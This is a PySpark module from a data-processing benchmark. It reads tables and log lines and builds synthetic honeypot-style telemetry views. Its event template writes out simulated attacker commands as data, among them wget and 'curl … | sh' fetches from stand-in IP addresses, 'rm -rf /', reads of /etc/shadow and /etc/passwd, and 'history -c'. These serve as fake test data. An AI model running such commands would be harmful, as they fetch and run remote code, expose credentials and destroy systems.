"""Where rows come from: stored tables, JSON lines, and the telemetry views over the benchmark's own tables."""

from __future__ import annotations

import uuid

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F
from pyspark.sql.window import Window

from sentryspark.schema import TABLES


#: Log files whose places may be broadcast.
BROADCAST_FILES = 10_000


def read_table(spark: SparkSession, path: str, name: str) -> DataFrame:
    """One of the five tables from Parquet, by its fixed schema."""
    return spark.read.schema(TABLES[name]).parquet(path)


def describe(spark: SparkSession, paths: dict[str, str]) -> DataFrame:
    """(name, readable, columns, missing) for each table of name -> path; never raises for an unreadable one."""
    rows = []
    for name, path in sorted(paths.items()):
        try:
            found = spark.read.parquet(path).columns
        except Exception:  # any reason makes a table unreadable
            found = None
        wanted = TABLES[name].fieldNames() if name in TABLES else []
        rows.append((name, found is not None, found or [], [x for x in wanted if x not in (found or [])]))
    return spark.createDataFrame(rows, "name string, readable boolean, columns array<string>, missing array<string>")


def read_lines(spark: SparkSession, path: str, since: str | None = None) -> DataFrame:
    """(line, file) of text files; a glob or folder, gzip included. Blank lines and `//` comments are left out.

    `since` keeps lines whose timestamp is no earlier; a line without a readable one stays.
    """
    lines = spark.read.text(path).select(F.col("value").alias("line"), F.col("_metadata.file_path").alias("file"))
    lines = lines.where((F.trim("line") != "") & ~F.trim("line").startswith("//"))
    if since is None:
        return lines
    stamp = F.get_json_object("line", "$.timestamp")
    return lines.where(F.coalesce((stamp >= since) | ~stamp.rlike(r"^\d{4}-\d{2}-\d{2}T"), F.lit(True)))


def file_order(lines: DataFrame, live: str) -> DataFrame:
    """lines with `age`, the place of their file among those of a rotated log, oldest first: by what follows the name `live`, which comes last itself."""
    suffix = F.ltrim(F.substring_index("file", "/", -1).substr(F.lit(len(live) + 1), F.lit(1 << 20)), F.lit("."))
    files = stored(lines.select("file").distinct().select("file", (suffix == "").alias("now"), suffix.alias("suffix")), "log-files")
    # a row for each file, of its name alone
    own = files.withColumn("age", F.row_number().over(Window.orderBy("now", "suffix", "file"))).select("file", "age")
    return lines.join(F.broadcast(own) if files.count() <= BROADCAST_FILES else own, "file")


def parsed_lines(lines: DataFrame, strict: bool = False) -> DataFrame:
    """lines with `valid`: whether the line is a JSON object. strict fails at the first that isn't."""
    valid = F.coalesce(F.try_parse_json("line").isNotNull() & F.trim("line").startswith("{"), F.lit(False))
    if strict:
        valid = F.when(valid, F.lit(True)).otherwise(F.raise_error(F.concat(F.lit("not a JSON object: "), F.substring("line", 1, 100))).cast("boolean"))
    return lines.withColumn("valid", valid)


def shared_folder(spark: SparkSession) -> str:
    """The folder that driver and executors share: spark.checkpoint.dir of the session, or the one set by setCheckpointDir.

    Neither being set is an error on a cluster; a local master gets a folder below the warehouse, as everything is on one machine.
    """
    where = spark.conf.get("spark.checkpoint.dir", None) or spark.sparkContext.getCheckpointDir()
    if where:
        return where
    if not spark.sparkContext.master.startswith("local"):
        raise RuntimeError("set spark.checkpoint.dir to a folder that the driver and all executors share")
    spark.sparkContext.setCheckpointDir(f"{spark.conf.get('spark.sql.warehouse.dir')}/shared-{uuid.uuid4().hex}")
    return spark.sparkContext.getCheckpointDir()


def new_folder(spark: SparkSession, name: str) -> str:
    """A new path in the shared folder."""
    return f"{shared_folder(spark)}/{name}-{uuid.uuid4().hex}"


def removed(spark: SparkSession, path: str) -> None:
    """Delete a folder of intermediate data that nothing reads any more."""
    where = spark.sparkContext._jvm.org.apache.hadoop.fs.Path(path)
    where.getFileSystem(spark.sparkContext._jsc.hadoopConfiguration()).delete(where, True)


def stored(df: DataFrame, name: str) -> DataFrame:
    """df written to the shared folder and read back: cuts lineage, survives lost executors."""
    path = new_folder(df.sparkSession, name)
    df.write.parquet(path)
    return df.sparkSession.read.schema(df.schema).parquet(path)


# -- telemetry views over the tables events, customer and nation --------------------

_EVENTS = """
with base as (
  select event_id as seq, concat('00000000-0000-4000-8000-', lpad(cast(event_id as varchar(12)), 12, '0')) as event_id,
    concat('node-0', cast(event_id % 3 + 1 as varchar(2))) as node_id,
    case when event_id % 20 = 19 then 'heartbeat' when event_type = 'error' then 'login_attempt' when event_type = 'click' then 'command'
         when event_type = 'purchase' then 'file_download' when event_type = 'view' then 'login_success'
         when event_id % 2 = 0 then 'connection' else 'session_end' end as event_type,
    {stamp} as timestamp, {received} as received_at, user_id, {ip} as ip, {k} as k from {events})
select seq, event_id, node_id,
  case when event_type = 'heartbeat' then null else concat(node_id, ':', cast(user_id as varchar(20)), '-', substr(timestamp, 1, 10)) end as session_id,
  event_type, timestamp, case when event_type = 'heartbeat' then null else ip end as attacker_ip,
  case when event_type = 'heartbeat' then null when user_id % 4 = 0 then 'ssh' when user_id % 4 = 1 then 'telnet' when user_id % 4 = 2 then 'ftp' else 'smb' end as protocol,
  case event_type
    when 'heartbeat' then '{{"status": "online"}}'
    when 'connection' then concat('{{"destination_port": 22, "source_port": ', cast(30000 + k as varchar(6)), '}}')
    when 'login_attempt' then concat('{{"password": ', case when seq % 5 = 0 then 'null' else concat('"pw', cast(k % 7 as varchar(3)), '"') end, ', "username": "', case when k % 4 = 0 then 'root' else concat('user', cast(k % 12 as varchar(3))) end, '"}}')
    when 'login_success' then concat('{{"username": "', case when k % 4 = 0 then 'root' else concat('user', cast(k % 12 as varchar(3))) end, '"}}')
    when 'command' then concat('{{"command": "', case k % 10 when 0 then 'uname -a' when 1 then 'wget http://198.51.100.77/bins/arm7' when 2 then 'chmod +x /tmp/a' when 3 then 'cat /etc/passwd' when 4 then 'ls -la' when 5 then 'curl http://203.0.113.201/kx | sh' when 6 then 'rm -rf /' when 7 then 'cat /etc/shadow' when 8 then 'nproc' else 'history -c' end, '"}}')
    when 'file_download' then concat('{{"download_url": "http://198.51.100.77/bins/', cast(k as varchar(4)), '", "file_hash": null, "file_name": "f', cast(k % 9 as varchar(3)), '"}}')
    else concat('{{"duration_seconds": ', cast(k as varchar(4)), ', "status": "', case when seq % 8 = 1 then 'failed' else 'closed' end, '"}}') end as details,
  received_at from base
"""
_REPUTATION = """
select {ip} as attacker_ip, case when c_custkey % 11 = 0 then null else n_name end as country, concat('City', cast(c_custkey % 17 as varchar(3))) as city,
  case when c_custkey % 6 = 0 then null else cast(c_nationkey * 5 - 60 as double) end as latitude, case when c_custkey % 6 = 0 then null else cast(c_nationkey * 14 - 170 as double) end as longitude,
  case when c_custkey % 7 = 0 then null else cast(c_custkey * 37 % 101 as int) end as abuse_score, 'ip-api,AbuseIPDB' as source, cast(c_custkey * 53 % 101 as int) as profile_score, '2024-01-30T00:00:00Z' as last_updated
from {customer} join {nation} on n_nationkey = c_nationkey where c_custkey % 5 <> 4
"""
_SPARK = {
    "stamp": "date_format(ts, \"yyyy-MM-dd'T'HH:mm:ss'Z'\")",
    "received": "date_format(ts + make_dt_interval(0, 0, 0, cast(event_id % 7 as decimal(18, 6))), \"yyyy-MM-dd'T'HH:mm:ss'Z'\")",
    "k": "cast(get_json_object(props, '$.k') as int)",
}
_DUCK = {"stamp": "strftime(ts, '%Y-%m-%dT%H:%M:%SZ')", "received": "strftime(ts + to_seconds(event_id % 7), '%Y-%m-%dT%H:%M:%SZ')", "k": "cast(json_extract_string(props, '$.k') as int)"}


def _ip(x: str, div: str) -> str:
    return f"concat('203.0.', cast(113 + {x} {div} 256 as string), '.', cast({x} % 256 as string))"


def demo_events(spark: SparkSession, sf_dir: str, spread: bool = False) -> DataFrame:
    """The events table as sensor telemetry, deterministic; every twentieth row is a heartbeat.

    With spread, the table's own rows are shuffled before their texts are made, so that a file of few row groups keeps all cores busy.
    """
    rows = f"parquet.`{sf_dir}/events.parquet`"
    if spread:
        rows = f"(select /*+ repartition(event_id) */ event_id, ts, user_id, event_type, props from {rows})"
    return spark.sql(_EVENTS.format(**_SPARK, ip=_ip("user_id", "div"), events="{events}").replace("{events}", rows))


def demo_reputation(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(_REPUTATION.format(ip=_ip("c_custkey", "div"), customer=f"parquet.`{sf_dir}/customer.parquet`", nation=f"parquet.`{sf_dir}/nation.parquet`"))


def sendable(ip: Column) -> Column:
    """The views' address as one that a sensor can send: theirs count on past 203.0.255.255 in the third part, which is no address; here that carries to the second."""
    third = F.split_part(ip, F.lit("."), F.lit(3)).try_cast("int")
    return F.concat(F.lit("203."), F.floor(third / 256).cast("string"), F.lit("."), (third % 256).cast("string"), F.lit("."), F.split_part(ip, F.lit("."), F.lit(4)))


def as_viewed(ip: Column) -> Column:
    """The views' address of a sendable() one."""
    part = lambda k: F.split_part(ip, F.lit("."), F.lit(k))
    return F.concat(F.lit("203.0."), (part(2).try_cast("int") * 256 + part(3).try_cast("int")).cast("string"), F.lit("."), part(4))


#: The same views for DuckDB, over its views of the same names.
DUCK_EVENTS = _EVENTS.format(**_DUCK, ip=_ip("user_id", "//"), events="events")
DUCK_REPUTATION = _REPUTATION.format(ip=_ip("c_custkey", "//"), customer="customer", nation="nation")
